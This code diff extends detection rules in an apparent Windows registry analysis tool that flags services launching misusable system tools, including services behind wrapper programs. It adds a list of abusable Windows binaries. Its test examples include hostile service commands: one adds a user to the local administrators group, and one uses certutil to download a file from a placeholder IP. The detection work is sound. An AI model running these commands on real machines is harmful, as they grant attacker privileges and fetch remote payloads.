@@ -10,11 +10,12 @@ from hivecheck.facts.create_process import image_meant
 from hivecheck.facts.origin import Origin
 from hivecheck.rules.case import Case
 from hivecheck.rules.case_facts import ServiceProgram
-from hivecheck.rules.named_dlls import BACK_UP, cite_value
+from hivecheck.rules.named_dlls import BACK_UP, cite_value, is_dropped
 from hivecheck.rules.odd_images import odd_image
 from hivecheck.rules.paths import Comparable, runs_an_interpreter
 from hivecheck.rules.rule import Example, Hit, Rule, Severity
 from hivecheck.rules.security_products import vendor_of_path
+from hivecheck.rules.service_wrappers import wrapped_programs
 from hivecheck.settings.services import DISABLED
 
 REPAIR_SERVICE = (
@@ -24,6 +25,15 @@ REPAIR_SERVICE = (
 _CRITICAL_TOOLS = frozenset(
     ("cmd", "%comspec%", "powershell", "pwsh", "mshta", "regsvr32", "rundll32", "wscript", "cscript", "conhost")
 )
+_TOOLS = frozenset(
+    (
+        "net", "net1", "netsh", "reg", "regedit", "regini", "sc", "vssadmin", "wbadmin", "diskshadow", "diskpart", "bcdedit",
+        "wevtutil", "fltmc", "auditpol", "takeown", "icacls", "taskkill", "curl", "ftp", "ssh", "odbcconf", "hh", "scriptrunner",
+        "ieexec", "regasm", "regsvcs", "presentationhost", "mavinject", "xwizard", "certreq", "esentutl", "at", "powershell_ise",
+        "syncappvpublishingserver", "explorer",
+    )
+)  # fmt: skip
+_WINDOWS = ("\\windows\\", "\\winnt\\")
 _DEFENDER_FOLDERS = (
     "\\programdata\\microsoft\\windows defender\\", "\\programdata\\microsoft\\microsoft antimalware\\",
 )  # fmt: skip
@@ -69,7 +79,7 @@ def _check_interpreter(case: Case) -> Iterator[Hit]:
     for program in case.programs:
         if not program.command or program.service.is_driver:
             continue
-        tool = runs_an_interpreter(program.command)
+        tool = runs_an_interpreter(program.command) or _own_tool(program)
         if not tool:
             continue
         worst = Severity.CRITICAL if tool.casefold() in _CRITICAL_TOOLS else Severity.HIGH
@@ -87,6 +97,26 @@ def _check_interpreter(case: Case) -> Iterator[Hit]:
             lowered_if_disabled(program, worst),
             Confidence.HIGH if itself else Confidence.MEDIUM,
         )
+    yield from _check_wrapped_interpreter(case)
+
+
+def _check_wrapped_interpreter(case: Case) -> Iterator[Hit]:
+    for one in wrapped_programs(case):
+        tool = runs_an_interpreter(one.command)
+        if tool:
+            name = one.program.service.name
+            text = f"The service {name} only starts another program, and that runs {tool} {when_it_runs(one.program)}: {one.command}"
+            yield hit_on(
+                case, one.program, text, (one.origin,), lowered_if_disabled(one.program, Severity.MEDIUM), Confidence.MEDIUM
+            )
+
+
+def _own_tool(program: ServiceProgram) -> str:
+    """A tool of Windows that changes the machine and is no service, where the image itself is it; '' where it is none."""
+    if not program.service.is_process:
+        return ""
+    name = program.image.name.removesuffix(".exe")
+    return name if name in _TOOLS and program.image.below_drive.startswith(_WINDOWS) else ""
 
 
 def _check_user_writable(case: Case) -> Iterator[Hit]:
@@ -133,6 +163,19 @@ def _check_user_writable(case: Case) -> Iterator[Hit]:
                 None,
                 odd.path,
             )
+    for one in wrapped_programs(case):
+        if is_dropped(one.image) and not (one.image.is_odd and one.image.assumed):
+            where = "lies in a folder that ordinary users can write to" if one.image.is_user_writable else ""
+            yield hit_on(
+                case,
+                one.program,
+                f"The service {one.program.service.name} only starts another program, {one.command}, {when_it_runs(one.program)}, "
+                f"which {where or f'is named by {one.image.oddities[0]}'}.",
+                (one.origin,),
+                lowered_if_disabled(one.program, Severity.HIGH),
+                None,
+                one.image,
+            )
 
 
 SVC_IMAGEPATH_LOLBIN = Rule(
@@ -151,7 +194,7 @@ SVC_IMAGEPATH_LOLBIN = Rule(
     sources=("detections.md 1.8", "detections.md 5.1"),
     severities=(
         "critical for cmd, %ComSpec%, powershell, mshta, regsvr32, rundll32 and script hosts, high for other tools; one step "
-        "less where the tool is an argument only, and where the service is disabled"
+        "less where the tool is an argument only, and where the service is disabled; medium behind a wrapper (srvany, NSSM)"
     ),
     check=_check_interpreter,
     fires_on=(
@@ -177,6 +220,31 @@ SVC_IMAGEPATH_LOLBIN = Rule(
             cites=(r"C:\Windows\System32\certutil.exe -urlcache -f http://192.0.2.1/a a",),
             severity=Severity.HIGH,
         ),
+        Example(
+            "a tool of Windows that is no service",
+            r"""
+            [ControlSet001\Services\helpdesk]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "C:\Windows\System32\net.exe localgroup administrators helpdesk /add"
+            """,
+            cites=(r"C:\Windows\System32\net.exe localgroup administrators helpdesk /add",),
+            severity=Severity.HIGH,
+        ),
+        Example(
+            "a script behind a wrapper",
+            r"""
+            [ControlSet001\Services\task]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = expand "C:\Program Files\nssm\nssm.exe"
+            [ControlSet001\Services\task\Parameters]
+            Application = expand "powershell.exe"
+            AppParameters = expand "-File C:\scripts\a.ps1"
+            """,
+            cites=("powershell.exe",),
+            severity=Severity.MEDIUM,
+        ),
     ),
     silent_on=(
         Example(
@@ -186,6 +254,15 @@ SVC_IMAGEPATH_LOLBIN = Rule(
             Type = dword 16
             Start = dword 3
             ImagePath = expand "%systemroot%\system32\msiexec.exe /V"
+            """,
+        ),
+        Example(
+            "programs that only share the name of a tool",
+            r"""
+            [ControlSet001\Services\at]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = sz "C:\agent\bin\at.exe"
             """,
         ),
     ),
@@ -218,6 +295,19 @@ SVC_PATH_USER_WRITABLE = Rule(
     needs="the folder's own permissions take the file system",
     check=_check_user_writable,
     fires_on=(
+        Example(
+            "a program of ProgramData behind a wrapper",
+            r"""
+            [ControlSet001\Services\agent]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = expand "%SystemRoot%\System32\srvany.exe"
+            [ControlSet001\Services\agent\Parameters]
+            Application = sz "C:\ProgramData\agent\a.exe"
+            """,
+            cites=(r"C:\ProgramData\agent\a.exe",),
+            severity=Severity.HIGH,
+        ),
         Example(
             "a program in ProgramData",
             r"""
@@ -312,6 +402,18 @@ SVC_PATH_USER_WRITABLE = Rule(
         ),
     ),
     silent_on=(
+        Example(
+            "a program of its own folder behind a wrapper",
+            r"""
+            [ControlSet001\Services\minion]
+            Type = dword 16
+            Start = dword 2
+            ImagePath = expand "C:\salt\bin\ssm.exe"
+            [ControlSet001\Services\minion\Parameters]
+            Application = expand "C:\salt\bin\python.exe"
+            AppParameters = expand "-E -s C:\salt\bin\Scripts\minion -c C:\salt\conf -l quiet"
+            """,
+        ),
         Example(
             "an argument in ProgramData, and Defender's platform",
             r"""
